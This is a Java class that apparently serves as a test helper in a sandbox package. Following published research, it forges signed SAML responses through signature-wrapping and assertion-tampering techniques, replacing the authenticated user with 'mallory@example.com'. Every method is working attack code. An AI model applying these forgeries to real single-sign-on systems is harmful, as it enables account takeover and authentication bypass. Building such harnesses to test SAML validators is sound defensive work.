package app.brevet.sandbox;

import javax.xml.crypto.dsig.XMLSignature;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/// Makes a response with a signed assertion say something else, so that a careless reader still
/// finds the signature good.
///
/// Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", for the ways.
final class SamlForgery {

  private static final String ID = "ID";
  private static final String ATTACKER = "mallory@example.com";

  private final Element response;
  private final Element genuine;

  /// @param genuine the signed assertion, a child of the response
  SamlForgery(Element response, Element genuine) {
    this.response = response;
    this.genuine = genuine;
  }

  /// Forges in this way.
  void commit(SamlSigning way) {
    switch (way) {
      case TAMPERED -> rename(genuine);
      case WRAPPED_AFTER -> response.appendChild(forged("_forged"));
      case WRAPPED_BEFORE -> response.insertBefore(forged("_forged"), genuine);
      case WRAPPED_EXTENSIONS -> hideInExtensions();
      case WRAPPED_SAME_ID -> hideInSignature();
      default -> throw new IllegalArgumentException(way.name());
    }
  }

  /// The forged assertion carries the signature, which is over the genuine one.
  private void hideInExtensions() {
    Element forged = forged("_forged");
    Element extensions =
        response.getOwnerDocument().createElementNS(SamlXml.PROTOCOL, "samlp:Extensions");
    response.replaceChild(forged, genuine);
    response.insertBefore(extensions, response.getFirstChild());
    extensions.appendChild(genuine);
    forged.insertBefore(signature(genuine), forged.getFirstChild().getNextSibling());
  }

  /// The forged assertion has the genuine one inside of its signature, and its id.
  private void hideInSignature() {
    Element forged = forged(genuine.getAttribute(ID));
    Element object = response.getOwnerDocument().createElementNS(XMLSignature.XMLNS, "ds:Object");
    Node signature = signature(genuine);
    response.replaceChild(forged, genuine);
    forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
    signature.appendChild(object);
    object.appendChild(genuine);
  }

  private Element forged(String id) {
    Element copy = (Element) genuine.cloneNode(true);
    copy.removeChild(signature(copy));
    copy.setAttribute(ID, id);
    rename(copy);
    return copy;
  }

  private static Node signature(Element assertion) {
    return SamlXml.children(assertion, XMLSignature.XMLNS, "Signature").getFirst();
  }

  private static void rename(Element assertion) {
    SamlXml.child(assertion, "Subject")
        .flatMap(subject -> SamlXml.child(subject, "NameID"))
        .orElseThrow()
        .setTextContent(ATTACKER);
  }
}
